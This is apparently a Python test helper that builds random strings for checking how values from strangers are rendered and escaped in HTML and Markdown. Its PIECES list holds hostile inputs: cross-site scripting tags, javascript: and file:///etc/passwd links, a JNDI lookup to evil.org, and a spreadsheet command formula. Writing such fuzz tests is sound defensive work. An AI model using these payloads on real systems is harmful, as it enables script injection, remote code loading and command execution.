"""Texts that a stranger puts into values: how each is written, and what a reader must see of it."""

from __future__ import annotations

import unicodedata
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    import random


class Piece(NamedTuple):
    """A text, and what is seen of it where that is not the text itself."""

    written: str
    other: str | None = None

    @property
    def seen(self) -> str:
        """What a reader sees."""
        return self.written if self.other is None else self.other


PIECES = (
    # HTML
    Piece("<script>alert(1)</script>"),
    Piece("<img src=x onerror=alert(1)>"),
    Piece("<iframe src=//evil.org></iframe>"),
    Piece("</td></table></div><form action=https://evil.org>"),
    Piece("'\"><svg onload=alert(1)>"),
    Piece("<style>p{display:none}</style>"),
    Piece("<base href=//evil.org>"),
    Piece("<meta http-equiv=refresh content=0>"),
    Piece("<a href=javascript:x>k</a>"),
    Piece("<!-- gone"),
    Piece("--> <!DOCTYPE html>"),
    Piece("]]> <?php x ?>"),
    Piece("<b>bold</b><br>"),
    Piece("&lt;script&gt;", "<script>"),
    Piece("&#60;script&#62;", "<script>"),
    Piece("AT&amp;T", "AT&T"),
    Piece("&nbsp", "&nbsp"),
    # inline Markdown
    Piece("*em*", "em"),
    Piece("**strong**", "strong"),
    Piece("~~gone~~", "gone"),
    Piece("`code <b>`", "code <b>"),
    Piece("`` a`b ``", "a`b"),
    Piece("\\*star\\*", "*star*"),
    Piece("snake_case_name"),
    Piece("a | b"),
    Piece("x \\ y"),
    Piece("2 * 3 < 4 > 1"),
    Piece("[no link]"),
    Piece("~ ^ = + @ $ % !"),
    # addresses
    Piece("[word](https://acme.com/x)", "word"),
    Piece("[word](mailto:a@b.org)", "word"),
    Piece("<https://acme.com/a>", "https://acme.com/a"),
    Piece("<a@b.org>", "a@b.org"),
    Piece("https://acme.com/bare"),
    Piece("[word](javascript:alert(1))"),
    Piece("[word](JaVaScRiPt:alert(1))"),
    Piece("[word](data:text/html;base64,PHNj)"),
    Piece("[word](file:///etc/passwd)"),
    Piece("[word](//evil.org/x)"),
    Piece("[word](../up)"),
    Piece("<javascript:alert(1)>"),
    Piece("![x](file:///37.png)"),
    Piece("data:text/html,x"),
    Piece("url(javascript:x) @import 'x' expression(1)"),
    # other machines
    Piece("{{ 7 }} {% raw %} {# x #}"),
    Piece("${jndi:ldap://evil.org} %s %(x)s {0}"),
    Piece("=cmd|x!A1"),
    Piece("\\u0041 \\x41 \\n"),
    # letters
    Piece("שלום"),
    Piece("\u2067שלום 24\u2069"),
    Piece("العربية"),
    Piece("日本語"),
    Piece("e\u0301té Œuvre ß ﬁ"),
    Piece("Ωμέγα Привет"),
    Piece("🎉👩‍💻"),
    Piece("« guillemets » – — … ’ “x”"),
    Piece("a\u00a0b\u202fc\u00add"),
    Piece("w" * 120),
)
STARTS = tuple(
    Piece(one)
    for one in ("", "# ", "- ", "1. ", "> ", "```", "---", "+ ", "| ", "    ", "=== ", "[x]: ")
)
"""What begins a block in Markdown, and begins none in a value."""

_LETTERS = "".join(
    chr(code)
    for code in range(0xA1, 0x2FFF)
    if unicodedata.category(chr(code))[0] in "LNSP"
    and unicodedata.bidirectional(chr(code)) not in ("R", "AL", "AN")
    and unicodedata.normalize("NFKC", chr(code)).strip() == chr(code)
)


def text(chance: random.Random, number: int) -> Piece:
    """Make a text of some pieces, between two words that only this one has."""
    pieces = [chance.choice(PIECES) for _ in range(chance.choice((1, 1, 2, 3)))]
    if chance.randrange(4) == 0:
        pieces.append(Piece("".join(chance.choice(_LETTERS) for _ in range(5))))
    start = chance.choice(STARTS) if chance.randrange(3) == 0 else Piece("")
    inside = [Piece(f"ka{number}q"), *pieces, Piece(f"ze{number}q")]
    written, seen = " ".join(p.written for p in inside), " ".join(p.seen for p in inside)
    return Piece(start.written + written, start.seen + seen)


UNSEEN = "-\u00ad\u2010\u2011\ufffe\u2066\u2067\u2068\u2069\u200b\u2060"
"""Hyphens, which lines are broken with, and what has no shape of its own."""


def folded(seen: str) -> str:
    """Bring a text to what counts, whichever way it was set: no spaces, no hyphens, one case."""
    kept = unicodedata.normalize("NFKC", seen).replace("’", "'")
    return "".join(one for one in kept.casefold() if not one.isspace() and one not in UNSEEN)
